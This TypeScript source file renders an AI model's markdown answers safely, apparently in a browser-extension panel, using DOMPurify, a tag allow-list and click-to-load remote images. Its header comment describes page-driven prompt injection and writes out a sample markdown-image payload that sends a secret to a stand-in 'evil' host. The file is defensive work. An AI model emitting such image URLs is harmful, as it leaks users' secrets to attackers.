/**
 * The model's text is untrusted (a page can steer what it writes), so markdown becomes DOM only through DOMPurify,
 * and nothing in an answer may fetch from the network by itself: remote images become a button that loads the one
 * image on the user's click (images are a classic exfiltration channel: `![](https://evil/?q=<secret>)`).
 */
import { Marked } from 'marked';
import DOMPurify from 'dompurify';
import type { Translate } from '../../shared/i18n';

const marked = new Marked({ gfm: true, breaks: true, async: false });

/** A markdown subset: no forms, media, frames, styles or SVG, so nothing can run, fetch or overlay the panel. */
const ALLOWED_TAGS = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'del',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'img',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
  'input',
  'span',
];
const ALLOWED_ATTR = [
  'href',
  'title',
  'src',
  'alt',
  'class',
  'colspan',
  'rowspan',
  'align',
  'type',
  'checked',
  'disabled',
  'start',
];

/** Inline images the model may show without asking: they are in the text already, so loading them leaks nothing. */
const INLINE_IMAGE = /^data:image\/(png|jpeg|gif|webp);base64,/i;

export interface RenderOptions {
  /** Remote image URLs the user agreed to load. */
  allowedImages?: ReadonlySet<string>;
  t: Translate;
}

let purifier: ReturnType<typeof DOMPurify> | undefined;
/** The allow-list of the render in progress (DOMPurify hooks are registered once, so they read it from here). */
let currentAllowed: ReadonlySet<string> = new Set();

function getPurifier(): ReturnType<typeof DOMPurify> {
  if (purifier) return purifier;
  purifier = DOMPurify(window);
  purifier.addHook('uponSanitizeAttribute', (node, data) => {
    // GFM task-list checkboxes are the only inputs kept, and they stay read-only.
    if (node.nodeName === 'INPUT' && data.attrName === 'type' && data.attrValue !== 'checkbox') data.keepAttr = false;
  });
  // Runs in DOMPurify's inert document: a blocked image loses its src before it could ever reach a live document.
  purifier.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName !== 'IMG') return;
    const src = node.getAttribute('src') ?? '';
    if (INLINE_IMAGE.test(src) || (/^https?:/i.test(src) && currentAllowed.has(src))) return;
    node.removeAttribute('src');
    node.setAttribute('data-blocked-src', src);
  });
  return purifier;
}

function copyButton(code: HTMLElement, t: Translate): HTMLElement {
  const doc = code.ownerDocument;
  const wrap = doc.createElement('div');
  wrap.className = 'code-block';
  const button = doc.createElement('button');
  button.type = 'button';
  button.className = 'copy-code';
  button.setAttribute('data-copy-code', '');
  button.textContent = t('panelCopy');
  button.setAttribute('aria-label', t('panelCopyCode'));
  code.replaceWith(wrap);
  wrap.append(button, code);
  return wrap;
}

function imagePlaceholder(img: HTMLImageElement, src: string, t: Translate): HTMLElement {
  const button = img.ownerDocument.createElement('button');
  button.type = 'button';
  button.className = 'remote-image';
  button.setAttribute('data-load-image', src);
  let host = src;
  try {
    host = new URL(src).host || src;
  } catch {
    // Not a URL: show it as written.
  }
  const alt = img.getAttribute('alt');
  button.textContent = t('panelLoadImage', host);
  if (alt) button.title = alt;
  return button;
}

/** Markdown -> sanitized HTML, with copy buttons on code blocks and remote images behind a click. */
export function renderMarkdown(text: string, options: RenderOptions): string {
  const html = marked.parse(text) as string;
  currentAllowed = options.allowedImages ?? new Set();
  const clean = getPurifier().sanitize(html, { ALLOWED_TAGS, ALLOWED_ATTR, ALLOW_DATA_ATTR: false });
  // A <template>'s content is inert: nothing in it loads while we finish the markup.
  const template = document.createElement('template');
  template.innerHTML = clean;
  const fragment = template.content;
  for (const input of fragment.querySelectorAll('input')) input.setAttribute('disabled', '');
  for (const link of fragment.querySelectorAll('a')) {
    const href = link.getAttribute('href') ?? '';
    if (!/^(https?:|mailto:)/i.test(href)) {
      // In-page anchors and relative links mean nothing in the panel; keep the words only.
      link.removeAttribute('href');
      continue;
    }
    link.setAttribute('target', '_blank');
    link.setAttribute('rel', 'noopener noreferrer');
  }
  for (const img of fragment.querySelectorAll('img')) {
    const blocked = img.getAttribute('data-blocked-src');
    if (blocked === null) img.setAttribute('referrerpolicy', 'no-referrer');
    else if (/^https?:/i.test(blocked)) img.replaceWith(imagePlaceholder(img, blocked, options.t));
    // Relative or odd sources cannot mean anything in the panel: keep only the words.
    else img.replaceWith(img.getAttribute('alt') ?? '');
  }
  for (const pre of [...fragment.querySelectorAll('pre')]) copyButton(pre, options.t);
  return template.innerHTML;
}
